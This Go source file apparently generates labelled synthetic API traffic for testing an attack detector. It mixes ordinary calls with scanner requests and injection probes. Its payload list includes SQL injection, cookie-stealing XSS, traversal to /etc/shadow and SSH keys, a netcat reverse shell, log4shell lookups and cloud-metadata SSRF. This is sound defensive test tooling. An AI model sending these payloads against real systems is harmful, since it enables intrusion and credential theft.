package apigen

import (
	"net/netip"
	"strconv"
	"strings"
	"time"

	"github.com/apitap/apitap/reassembly"
	"github.com/apitap/apitap/reassembly/http1"
)

// LabelKind says what a generated transaction is.
type LabelKind uint8

// Kinds of generated transactions.
const (
	Benign  LabelKind = iota // an ordinary call of an operation
	Probe                    // an injection probe aimed at an operation
	Scanner                  // a scanner asking for a path the API does not have
)

func (k LabelKind) String() string {
	return [...]string{"benign", "probe", "scanner"}[k]
}

// Label is the truth about one generated transaction.
type Label struct {
	Kind LabelKind
	// Op is the operation called (Benign) or aimed at (Probe).
	Op *Operation
	// Class is the attack class of a probe's payload ("scanner" for
	// scanner requests).
	Class string
	// InPath says the probe's payload is in the path: the request must not
	// make an endpoint of its own. Probes with the payload in the query
	// call a real operation.
	InPath bool
	// Flagged says an attack analyzer could tell from the request alone:
	// a scanner's User-Agent.
	Flagged bool
}

// Payload is one attack string of a class (raw, not escaped).
type Payload struct {
	Class, Value string
}

// Mix mixes attack and scanner traffic into the generated calls.
type Mix struct {
	// Probe and Scanner are the shares of requests that are injection
	// probes and scanner requests (0.02 and 0.03 are realistic for a
	// public API).
	Probe, Scanner float64
	// Payloads are the probes' attack strings (DefaultPayloads if empty).
	Payloads []Payload
}

// DefaultPayloads are classic probes of each class, as scanners and
// attackers send them.
var DefaultPayloads = []Payload{
	{"sqli", "1 UNION SELECT username,password FROM users--"},
	{"sqli", "' OR '1'='1"},
	{"sqli", "1' AND SLEEP(5)--"},
	{"sqli", "1;DROP TABLE users"},
	{"sqli", "admin'--"},
	{"sqli", "1) OR (1=1"},
	{"sqli", "-1 OR 1=1"},
	{"sqli", "1 AND 1=CONVERT(int,@@version)"},
	{"xss", "<script>alert(1)</script>"},
	{"xss", "<svg/onload=alert('xss')>"},
	{"xss", "\"><img src=x onerror=alert(document.cookie)>"},
	{"xss", "javascript:alert(1)"},
	{"path_traversal", "../../../../etc/passwd"},
	{"path_traversal", "..\\..\\..\\windows\\win.ini"},
	{"path_traversal", "....//....//....//etc/shadow"},
	{"path_traversal", "../../../../../../../../root/.ssh/id_rsa"},
	{"path_traversal", "/etc/passwd"},
	{"path_traversal", "..%2f..%2f..%2fetc%2fpasswd"},
	{"cmd_injection", ";cat /etc/passwd"},
	{"cmd_injection", "$(id)"},
	{"cmd_injection", "`whoami`"},
	{"cmd_injection", "| nc 10.0.0.1 4444 -e /bin/sh"},
	{"cmd_injection", "&& ping -c 3 127.0.0.1"},
	{"log4shell", "${jndi:ldap://203.0.113.7:1389/a}"},
	{"log4shell", "${${lower:j}ndi:dns://x.example/y}"},
	{"ssti", "{{7*7}}"},
	{"ssti", "${7*7}"},
	{"ssti", "<%= 7*7 %>"},
	{"nosqli", "{\"$ne\":null}"},
	{"crlf_injection", "x%0d%0aSet-Cookie:%20a=b"},
	{"ssrf", "http://169.254.169.254/latest/meta-data/"},
	{"evasion", "%00"},
}

// scannerPaths are what scanners ask every web server for.
var scannerPaths = strings.Fields(`/wp-admin/ /wp-login.php /.env /.git/config /phpmyadmin/index.php /admin /admin/login
/actuator/env /actuator/heapdump /server-status /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /cgi-bin/luci
/config.json /api/swagger.json /v2/api-docs /console /.aws/credentials /_ignition/execute-solution
/solr/admin/cores /telescope/requests /debug/pprof/ /api/v1/pods /.DS_Store /xmlrpc.php /owa/auth/logon.aspx
/remote/login /HNAP1/ /boaform/admin/formLogin /manager/html /jenkins/login /login.action /api/jsonws/invoke
/.svn/entries /web.config /WEB-INF/web.xml /autodiscover/autodiscover.xml /ecp/Current/exporttool /api/v1/debug
/api/internal/metrics /api/admin/users /api/v1/admin /backup /db /old /test /dev /staging /api/v0 /api/private`)

var scannerAgents = []string{
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "sqlmap/1.8.4#stable (https://sqlmap.org)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36 Nuclei",
	"gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
	"Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
}

var browserAgent = "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"

// SetMix mixes probes and scanner requests into NextLabelled's calls.
func (g *Generator) SetMix(m Mix) {
	if len(m.Payloads) == 0 {
		m.Payloads = DefaultPayloads
	}
	g.mix = m
}

// NextLabelled returns the next transaction with the truth about it: an
// ordinary call (Next), or, at the mix's rates, an injection probe or a
// scanner request.
func (g *Generator) NextLabelled() (*reassembly.Transaction, Label) {
	if g.mix.Probe > 0 || g.mix.Scanner > 0 {
		switch r := g.rng.Float64(); {
		case r < g.mix.Probe:
			return g.probe()
		case r < g.mix.Probe+g.mix.Scanner:
			return g.scanner()
		}
	}
	tx, op := g.Next()
	return tx, Label{Kind: Benign, Op: op}
}

// pick returns a weighted random operation.
func (g *Generator) pick() *Operation {
	total := 0
	for i := range g.Ops {
		total += g.Ops[i].weight
	}
	r := g.rng.IntN(total)
	for i := range g.Ops {
		if r < g.Ops[i].weight {
			return &g.Ops[i]
		}
		r -= g.Ops[i].weight
	}
	return &g.Ops[len(g.Ops)-1]
}

// probe aims a payload at an operation: in place of a path parameter's
// value, appended to the path (traversal), or in a query parameter.
func (g *Generator) probe() (*reassembly.Transaction, Label) {
	op := g.pick()
	p := g.mix.Payloads[g.rng.IntN(len(g.mix.Payloads))]
	lab := Label{Kind: Probe, Op: op, Class: p.Class}
	hasParam := strings.Contains(op.Path, "{")
	hasParamProbe := false
	var tx *reassembly.Transaction
	switch r := g.rng.IntN(10); {
	case hasParam && r < 6:
		hasParamProbe = true
		// the payload takes a path parameter's place, sent raw (spaces
		// escaped, as any client must) or percent-encoded
		encode := g.rng.IntN(2) == 0
		done := false
		tx = g.make(op, func(name, v string) string {
			if done {
				return v
			}
			done = true
			if encode {
				return pathEscape(p.Value)
			}
			return rawEscape(p.Value)
		})
		lab.InPath = true
	case r < 8:
		tx = g.make(op, nil)
		tx.Request.Path = strings.TrimSuffix(tx.Request.Path, "/") + "/" + rawEscape(p.Value)
		lab.InPath = true
	default:
		tx = g.make(op, nil)
		name := "q"
		for _, pr := range op.params {
			if pr.Value != nil && pr.Value.In == "query" {
				name = pr.Value.Name
				break
			}
		}
		if tx.Request.Query != "" {
			tx.Request.Query += "&"
		}
		tx.Request.Query += name + "=" + queryEscape(p.Value)
	}
	req := tx.Request
	req.Target = req.Path
	if req.Query != "" {
		req.Target += "?" + req.Query
	}
	// most probes are refused; some in place of a parameter are answered
	// as if nothing happened (a path longer than any route is not)
	status := []int{400, 400, 400, 400, 404, 404, 500, 500, 403, 200}[g.rng.IntN(10)]
	if status == 200 && lab.InPath && !hasParamProbe {
		status = 404
	}
	if status != 200 {
		tx.Response.Status = status
		tx.Response.Body = http1.Body{}
		tx.Response.Headers = tx.Response.Headers[:0]
	}
	if g.rng.IntN(3) == 0 {
		setAgent(req, "sqlmap/1.8.4#stable (https://sqlmap.org)")
		lab.Flagged = true
	}
	tx.Flow.Client = netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, 100, byte(1 + g.rng.IntN(20))}), uint16(40000+g.n%20000))
	return tx, lab
}

// scanner asks for a path that scanners try everywhere (or a word of a
// directory list), mostly refused with 404.
func (g *Generator) scanner() (*reassembly.Transaction, Label) {
	g.n++
	g.t = g.t.Add(time.Duration(20+g.rng.IntN(100)) * time.Millisecond)
	path := scannerPaths[g.rng.IntN(len(scannerPaths))]
	if g.rng.IntN(3) == 0 {
		path = "/" + words[g.rng.IntN(len(words))] + []string{"", ".php", ".bak", "/", ".old", ".json"}[g.rng.IntN(6)]
	}
	method := "GET"
	if g.rng.IntN(8) == 0 {
		method = []string{"POST", "PROPFIND", "OPTIONS", "PUT"}[g.rng.IntN(4)]
	}
	lab := Label{Kind: Scanner, Class: "scanner"}
	agent := browserAgent
	if g.rng.IntN(100) < 85 {
		agent = scannerAgents[g.rng.IntN(len(scannerAgents))]
		lab.Flagged = true
	}
	req := &http1.Request{Method: method, Path: path, Target: path, Host: g.Host, Proto: "HTTP/1.1",
		Headers: []http1.Header{{Name: "Host", Value: g.Host}, {Name: "User-Agent", Value: agent}, {Name: "Accept", Value: "*/*"}}}
	req.HeadSize = len(req.Target) + 80
	req.Start = g.t
	req.End = g.t.Add(100 * time.Microsecond)
	status := []int{404, 404, 404, 404, 404, 404, 404, 403, 401, 400}[g.rng.IntN(10)]
	resp := &http1.Response{Proto: "HTTP/1.1", Status: status, Reason: "Not Found", HeadSize: 90}
	resp.Start = req.End.Add(time.Duration(1+g.rng.IntN(5)) * time.Millisecond)
	resp.End = resp.Start
	client := netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, byte(1 + g.rng.IntN(6))}), uint16(50000+g.n%10000))
	return &reassembly.Transaction{
		Flow:     reassembly.Flow{ID: strconv.Itoa(g.n), Client: client, Server: netip.MustParseAddrPort("10.0.0.1:80")},
		Exchange: http1.Exchange{Request: req, Response: resp},
	}, lab
}

func setAgent(req *http1.Request, agent string) {
	for i := range req.Headers {
		if strings.EqualFold(req.Headers[i].Name, "User-Agent") {
			req.Headers[i].Value = agent
			return
		}
	}
	req.Headers = append(req.Headers, http1.Header{Name: "User-Agent", Value: agent})
}

// rawEscape escapes what a request line cannot carry (spaces, controls,
// '#', '?', non-ASCII) and leaves the rest as attackers send it.
func rawEscape(s string) string {
	return escape(s, func(c byte) bool { return c > 0x20 && c < 0x7f && c != '#' && c != '?' })
}

// pathEscape percent-encodes everything but unreserved characters (the
// separators '/' and '\' too), as a client library escapes a path value.
func pathEscape(s string) string {
	return escape(s, func(c byte) bool {
		return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '.' || c == '_' || c == '~'
	})
}

func queryEscape(s string) string {
	return escape(s, func(c byte) bool {
		return c > 0x20 && c < 0x7f && c != '#' && c != '&' && c != '+' && c != '%' && c != '='
	})
}

func escape(s string, keep func(byte) bool) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if keep(c) {
			b.WriteByte(c)
			continue
		}
		b.WriteByte('%')
		b.WriteByte("0123456789ABCDEF"[c>>4])
		b.WriteByte("0123456789ABCDEF"[c&15])
	}
	return b.String()
}
